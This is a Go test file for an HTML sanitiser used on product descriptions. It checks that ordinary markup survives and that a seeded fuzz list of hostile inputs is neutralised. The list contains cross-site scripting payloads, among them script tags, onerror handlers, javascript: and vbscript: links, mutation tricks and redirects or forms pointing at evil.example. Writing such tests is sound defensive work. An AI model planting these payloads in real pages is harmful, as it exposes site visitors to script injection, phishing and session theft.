package richtext_test

import (
	"regexp"
	"strings"
	"testing"

	"hutong/service/catalogue/richtext"
)

func TestWhatADescriptionNeedsStays(t *testing.T) {
	for _, html := range []string{
		"<p>Vera pelle, <strong>conciata</strong> a mano.</p>\n<ul>\n<li>28 × 20 cm</li>\n</ul>",
		"<h2>尺寸</h2><table><tbody><tr><td colspan=\"2\">大</td></tr></tbody></table>",
		`<img src="https://p.example/a.jpg" alt="a bag" width="600" height="600">`,
		`<img src="/media/0a1b.webp" alt="">`,
		`<a href="https://example.com/care" rel="nofollow noreferrer">care</a>`,
		`<a href="product:borsa-molo" rel="nofollow noreferrer">the bag</a>`,
		"just text, 5 &lt; 6",
	} {
		if got := richtext.Sanitise(html); got != html {
			t.Errorf("%q became %q", html, got)
		}
	}
	if got := richtext.Sanitise(`<img src="//cdn.example/a.jpg">`); got != `<img src="https://cdn.example/a.jpg">` {
		t.Errorf("an address without a scheme: %q", got)
	}
}

var hostile = []string{
	`<script>alert(1)</script>`, `<scr<script>ipt>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" &#106;avascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="http://evil.example">x</a>`, `<a href="/console">x</a>`,
	`<p style="position:fixed;top:0">x</p>`, `<p class="pay" id="pay" onclick="x()">x</p>`, `<style>*{display:none}</style>`,
	`<iframe src="https://evil.example"></iframe>`, `<form action="https://evil.example"><input name=phone></form>`,
	`<svg><script>alert(1)</script></svg>`, `<math><mtext><style><img src onerror=alert(1)></style></mtext></math>`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example">`, `<object data=x></object>`,
	`<img src="https://p.example/a.jpg" width="99999" style="x">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<img src="/media/../v1/session">`, "<p\x00 onclick=x()>x", `<<p>script>alert(1)<</p>/script>`, `<textarea><img title="</textarea><img src onerror=x>">`,
}

func TestHostileHTMLIsHarmless(t *testing.T) {
	for _, html := range hostile {
		checkHarmless(t, html)
	}
}

// What is left has only the elements and attributes that are meant to be there.
var (
	element   = regexp.MustCompile(`<(/?)([a-zA-Z0-9]+)([^>]*)>`)
	attribute = regexp.MustCompile(`([a-zA-Z:-]+)="([^"]*)"`)
	link      = regexp.MustCompile(`^(https://[^/]|(product|category|page):.)`)
	ours      = regexp.MustCompile(`^/media/[^/]+$`)
)

func checkHarmless(t *testing.T, html string) {
	t.Helper()
	got := richtext.Sanitise(html)
	for _, e := range element.FindAllStringSubmatch(got, -1) {
		switch strings.ToLower(e[2]) {
		case "script", "style", "iframe", "form", "input", "svg", "math", "meta", "base", "link", "object", "embed", "noscript", "textarea":
			t.Errorf("%q left %q", html, e[0])
		}
		for _, a := range attribute.FindAllStringSubmatch(e[3], -1) {
			switch a[1] {
			case "alt", "width", "height", "colspan", "rowspan", "rel":
			case "href":
				if !link.MatchString(a[2]) {
					t.Errorf("%q left the link %q", html, a[2])
				}
			case "src":
				if !strings.HasPrefix(a[2], "https://") && !ours.MatchString(a[2]) {
					t.Errorf("%q left the picture %q", html, a[2])
				}
			default:
				t.Errorf("%q left the attribute %s", html, a[0])
			}
		}
	}
	if again := richtext.Sanitise(got); again != got {
		t.Errorf("%q: once %q, twice %q", html, got, again)
	}
}

func TestLongHTMLIsCutAtAnElement(t *testing.T) {
	got := richtext.Sanitise(strings.Repeat("<p>皮</p>", richtext.MaxLength/10+10))
	if len(got) > richtext.MaxLength || !strings.HasSuffix(got, "</p>") && !strings.HasSuffix(got, "皮") {
		t.Errorf("%d bytes, ending in %q", len(got), got[len(got)-20:])
	}
	if got := richtext.Sanitise(strings.Repeat("皮", richtext.MaxLength)); len(got) > richtext.MaxLength || strings.Contains(got, "\uFFFD") {
		t.Errorf("%d bytes of text", len(got))
	}
}

func FuzzSanitise(f *testing.F) {
	for _, html := range hostile {
		f.Add(html)
	}
	f.Fuzz(checkHarmless)
}
